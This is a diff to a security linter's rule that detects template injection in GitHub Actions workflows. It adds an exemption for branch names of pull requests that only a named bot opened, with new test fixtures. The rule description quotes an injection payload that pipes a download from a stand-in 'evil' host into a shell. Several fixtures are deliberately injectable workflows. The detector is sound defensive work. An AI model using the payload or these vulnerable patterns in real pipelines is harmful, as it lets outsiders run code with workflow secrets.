@@ -7,10 +7,10 @@ import { PIPED_DOWNLOAD_IN_SCRIPT, SIGNATURE_DISABLED, UNVERIFIED_RUN_IN_SCRIPT,
 import { isLiteralSecretValue, isSecretName, nameTokens } from '../secret-names.js';
 import { pipeToShellSites, PLAIN_HTTP_PIPE_NOTE } from '../shell.js';
 import { get, isTrue, isYMap, isYScalar, isYSeq, items, pair, text, type YMap, type YNode, type YScalar } from '../yaml/tree.js';
-import { githubScriptTaint, taintOf, taintedVariable, untrustedSource, worst } from './taint.js';
+import { githubScriptTaint, originOf, taintOf, taintedVariable, untrustedSource, worst } from './taint.js';
 import { mayYield, parseExpression } from './expression.js';
 import { GATED, alwaysTrueCondition, dangerousTrigger, spoofableBotCheck } from './condition-rules.js';
-import { jobGateOf, runsFor, weakestGate } from './gates.js';
+import { jobGateOf, onlyNamedAuthor, runsFor, weakestGate } from './gates.js';
 import { broadAppToken } from './app-token-rules.js';
 import { cachePoisoning, isCacheAction, unpinnedContainerImage, unpinnedPackageInstall } from './supply-rules.js';
 import { constantExpression, unredactedSecret, unsoundContainsRule, unsoundTernary } from './expression-rules.js';
@@ -97,7 +97,7 @@ const templateInjection = workflowRule({
   id: 'iac/gha-template-injection',
   title: 'Attacker-controlled input expanded into a script',
   description:
-    "A `${{ }}` expression inserts text an outsider controls (an issue or pull request title or body, a branch name, a commit message, a comment) into a `run:` script or a github-script `script:`, directly or through an earlier step's output (a shell or github-script step that wrote such text, a file of a fork's artifacts, to an output). The expression is expanded before the shell or JavaScript runs, so a title like `\"; curl evil | sh; echo \"` becomes code running with the workflow's token and secrets. Critical in a workflow that runs with privileges on outsiders' events, high when a gate stands in front of the step (a label only maintainers add, a permission or author_association check, a deployment environment, an `if:` that keeps forks out) and in other workflows. In a workflow_run workflow whose upstream workflows (found by name in the same repository) start only on maintainers' events such as push, schedule or release, the triggering run's branch and workflow file are the repository's own and are not reported, and its commit message is judged as a push's (high, not critical). A context that no trigger of the workflow carries (`github.event.head_commit` outside push events, `github.event.issue` outside issues and issue comments) expands to nothing and is reported at low, as a trigger added later would make it live; a context counts as privileged only when a privileged trigger carries it (a push's commit message in a workflow also run for issue comments is high).",
+    "A `${{ }}` expression inserts text an outsider controls (an issue or pull request title or body, a branch name, a commit message, a comment) into a `run:` script or a github-script `script:`, directly or through an earlier step's output (a shell or github-script step that wrote such text, a file of a fork's artifacts, to an output). The expression is expanded before the shell or JavaScript runs, so a title like `\"; curl evil | sh; echo \"` becomes code running with the workflow's token and secrets. Critical in a workflow that runs with privileges on outsiders' events, high when a gate stands in front of the step (a label only maintainers add, a permission or author_association check, a deployment environment, an `if:` that keeps forks out) and in other workflows. In a workflow_run workflow whose upstream workflows (found by name in the same repository) start only on maintainers' events such as push, schedule or release, the triggering run's branch and workflow file are the repository's own and are not reported, and its commit message is judged as a push's (high, not critical). A context that no trigger of the workflow carries (`github.event.head_commit` outside push events, `github.event.issue` outside issues and issue comments) expands to nothing and is reported at low, as a trigger added later would make it live; a context counts as privileged only when a privileged trigger carries it (a push's commit message in a workflow also run for issue comments is high). A pull request's branch name is not reported behind an `if:` that admits only pull requests a named account opened (`github.event.pull_request.user.login == 'dependabot[bot]'`, in the step, its job or a job it needs): it is that account's (a test of github.actor is no such gate). Nor is a github-script step's `result` (JSON, unless its result-encoding is string) written where another github-script script takes an expression (`const pr = ${{ steps.pr.outputs.result }}`): JavaScript reads the JSON as the value it encodes.",
   remediation: 'Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.issue.title }}` then `echo "$TITLE"` (in github-script, read context.payload instead).',
   severity: 'high',
   cwe: ['CWE-94', 'CWE-78'],
@@ -123,6 +123,8 @@ const templateInjection = workflowRule({
       // A github-script step returns a file of the triggering run's artifacts: its `result` output is the fork's text.
       workflow("      - uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16 # v4.1.8\n        with:\n          name: pr\n          run-id: ${{ github.event.workflow_run.id }}\n          github-token: ${{ github.token }}\n      - id: pr\n        uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          result-encoding: string\n          script: |\n            const fs = require('fs');\n            return fs.readFileSync('./pr_number', 'utf8').trim();\n      # expect\n      - run: gh pr comment ${{ steps.pr.outputs.result }} --body 'Preview ready'\n", 'workflow_run'),
       workflow("      - id: pr\n        uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: |\n            const { head } = context.payload.pull_request;\n            core.setOutput('branch', head.ref);\n      # expect\n      - run: ./deploy-preview.sh ${{ steps.pr.outputs.branch }}\n", 'pull_request_target'),
+      // github.actor is whoever caused the event, which another account can make the bot be; `!=` keeps outsiders in.
+      "name: bump\non: pull_request\npermissions: {}\njobs:\n  update:\n    if: github.actor == 'dependabot[bot]' || github.event.pull_request.user.login != 'renovate[bot]'\n    runs-on: ubuntu-latest\n    steps:\n      # expect\n      - run: git push origin \"HEAD:refs/heads/${{ github.event.pull_request.head.ref }}\"\n",
       // JSON in a template literal: a backtick in the title ends the literal.
       workflow("      - id: pr\n        uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: |\n            const { data } = await github.rest.pulls.get({ ...context.repo, pull_number: context.issue.number });\n            return { branch: data.head.ref, title: data.title };\n      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          # expect\n          script: const pr = JSON.parse(`${{ steps.pr.outputs.result }}`); core.info(pr.title)\n", 'issue_comment'),
     ],
@@ -142,6 +144,8 @@ const templateInjection = workflowRule({
       workflow('      - id: branch\n        uses: xt0rted/pull-request-comment-branch@e8b8daa837e8ea7331c0003c9c316a64c6d8b0b1 # v3.0.0\n      - run: git fetch origin "${{ steps.branch.outputs.head_sha }}"\n', 'issue_comment'),
       // A number read from the artifact, or the pull request's number and head sha, cannot carry code.
       workflow("      - uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16 # v4.1.8\n        with:\n          name: pr\n          run-id: ${{ github.event.workflow_run.id }}\n          github-token: ${{ github.token }}\n      - id: pr\n        uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: |\n            const fs = require('fs');\n            core.setOutput('number', Number(fs.readFileSync('./pr_number', 'utf8')));\n            core.setOutput('sha', context.payload.workflow_run.head_sha);\n      - run: gh pr comment ${{ steps.pr.outputs.number }} --body 'Built ${{ steps.pr.outputs.sha }}'\n", 'workflow_run'),
+      // Only pull requests Dependabot opened reach the job (through the job it needs): the branch name is Dependabot's.
+      "name: bump\non: pull_request\npermissions:\n  contents: write\njobs:\n  metadata:\n    if: github.event.pull_request.user.login == 'dependabot[bot]'\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo checked\n  update:\n    needs: metadata\n    runs-on: ubuntu-latest\n    steps:\n      - run: git push origin \"HEAD:refs/heads/${{ github.event.pull_request.head.ref }}\"\n",
       // github-script's `result` is JSON unless result-encoding is string: written where code is, it is a literal of the value.
       workflow("      - id: pr\n        uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: |\n            const { data } = await github.rest.pulls.get({ ...context.repo, pull_number: context.issue.number });\n            return { branch: data.head.ref, title: data.title };\n      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: |\n            const pr = ${{ steps.pr.outputs.result }};\n            await github.rest.actions.createWorkflowDispatch({ ...context.repo, workflow_id: 'ci.yml', ref: 'main', inputs: { branch: pr.branch } });\n", 'issue_comment'),
       // A boolean or number input of a reusable workflow cannot carry code.
@@ -154,6 +158,8 @@ const templateInjection = workflowRule({
       for (const expression of expressions(scalar.value as string)) {
         const source = untrustedSource(expression.inner, taint, wf);
         if (!source || jsonValueInScript(step, scalar, expression)) continue;
+        // The branch of a pull request only a named account (a bot) can have opened is that account's.
+        if (PULL_REQUEST_BRANCH.test(originOf(source)) && onlyNamedAuthor(wf, step.job, step)) continue;
         const at = inside(keyLine, lineOfText(wf, scalar, expression.raw, keyLine));
         const privileged = source.severity === undefined && (source.privileged ?? isPrivileged(wf));
         // Behind a maintainer's action or a fork check, an outsider's text still runs, but not on the outsider's own say.
@@ -168,6 +174,9 @@ const templateInjection = workflowRule({
     }
   },
 });
+
+/** The pull request's branch name, as the event gives it. */
+const PULL_REQUEST_BRANCH = /^github\.(?:event\.pull_request\.head\.ref|head_ref)$/i;
 
 /**
  * `const pr = ${{ steps.pr.outputs.result }}` in a github-script script, where step pr is
